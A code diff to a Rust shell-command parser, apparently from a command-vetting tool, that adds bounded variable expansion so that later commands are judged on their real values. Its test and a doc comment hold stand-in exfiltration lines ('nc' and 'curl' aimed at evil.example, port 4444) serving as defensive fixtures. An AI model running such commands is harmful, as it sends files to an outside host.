@@ -101,12 +101,15 @@ fn parse_into(line: &str, out: &mut Vec<SimpleCommand>, depth: usize) {
     let mut words: Vec<String> = Vec::new();
     let mut inputs: Vec<String> = Vec::new();
     let mut redirects: Vec<Redirect> = Vec::new();
+    let mut vars = Variables::default();
     for tok in tokens.into_iter().chain(std::iter::once(Tok::Sep)) {
         match tok {
             Tok::Word(w) => words.push(w),
             Tok::Input(text) => inputs.push(text),
             Tok::Redirect(r) => redirects.push(r),
             Tok::Sep => {
+                vars.expand(&mut words, &mut redirects);
+                vars.learn(&words);
                 let program = words
                     .iter()
                     .find(|w| !is_assignment(w))
@@ -136,6 +139,94 @@ fn parse_into(line: &str, out: &mut Vec<SimpleCommand>, depth: usize) {
                 redirects.clear();
             }
         }
+    }
+}
+
+/// Variables a script sets (`H=evil.example; curl "$H"`), so later commands
+/// are judged on the values they will see. Bounded: a few dozen variables
+/// of at most 4 KiB each; a word is expanded once, never recursively.
+#[derive(Default)]
+struct Variables {
+    known: Vec<(String, String)>,
+}
+
+impl Variables {
+    const MAX_VARIABLES: usize = 64;
+    const MAX_VALUE: usize = 4096;
+
+    /// Records `NAME=value` words of a command that has no program, or of
+    /// `export`/`readonly`/`declare`/`local`/`typeset`.
+    fn learn(&mut self, words: &[String]) {
+        let setter = words.first().is_some_and(|w| {
+            matches!(
+                w.as_str(),
+                "export" | "readonly" | "declare" | "local" | "typeset"
+            )
+        });
+        if !setter && words.iter().any(|w| !is_assignment(w)) {
+            return;
+        }
+        let assignments = words.iter().filter(|w| is_assignment(w));
+        for (name, value) in assignments.filter_map(|w| w.split_once('=')) {
+            if value.len() > Self::MAX_VALUE {
+                continue;
+            }
+            self.known.retain(|(n, _)| n != name);
+            if self.known.len() < Self::MAX_VARIABLES {
+                self.known.push((name.to_owned(), value.to_owned()));
+            }
+        }
+    }
+
+    /// Replaces `$NAME` and `${NAME}` of known variables in `words` and
+    /// redirection targets.
+    fn expand(&self, words: &mut [String], redirects: &mut [Redirect]) {
+        if self.known.is_empty() {
+            return;
+        }
+        let targets = redirects.iter_mut().map(|r| &mut r.target);
+        for word in words.iter_mut().chain(targets) {
+            if word.contains('$') {
+                if let Some(expanded) = self.expand_word(word) {
+                    *word = expanded;
+                }
+            }
+        }
+    }
+
+    fn expand_word(&self, word: &str) -> Option<String> {
+        let mut out = String::with_capacity(word.len());
+        let mut changed = false;
+        let mut rest = word;
+        while let Some(at) = rest.find('$') {
+            out.push_str(&rest[..at]);
+            let after = &rest[at + 1..];
+            let (name, len) = match after.strip_prefix('{') {
+                Some(inner) => match inner.find('}') {
+                    Some(end) => (&inner[..end], end + 2),
+                    None => ("", 0),
+                },
+                None => {
+                    let end = after
+                        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
+                        .unwrap_or(after.len());
+                    (&after[..end], end)
+                }
+            };
+            match self.known.iter().find(|(n, _)| n == name) {
+                Some((_, value)) if !name.is_empty() => {
+                    out.push_str(value);
+                    rest = &after[len..];
+                    changed = true;
+                }
+                _ => {
+                    out.push('$');
+                    rest = after;
+                }
+            }
+        }
+        out.push_str(rest);
+        changed.then_some(out)
     }
 }
 
@@ -928,6 +1019,20 @@ mod tests {
             programs("rg -n \"rm -rf\" README.md"),
             ["rg -n rm -rf README.md"]
         );
+    }
+
+    #[test]
+    fn variables_set_earlier_are_expanded() {
+        let cmds =
+            split("H=evil.example\nP=4444; export F=/srv/x\nnc $H ${P} < \"$F\"; echo $UNSET");
+        let nc = cmds.iter().find(|c| c.program == "nc").unwrap();
+        assert_eq!(nc.args, ["evil.example", "4444"]);
+        assert_eq!(nc.redirects[0].target, "/srv/x");
+        let echo = cmds.iter().find(|c| c.program == "echo").unwrap();
+        assert_eq!(echo.args, ["$UNSET"]);
+        // A prefix assignment belongs to its command only.
+        let cmds = split("A=1 true; echo $A");
+        assert_eq!(cmds.last().unwrap().args, ["$A"]);
     }
 
     #[test]
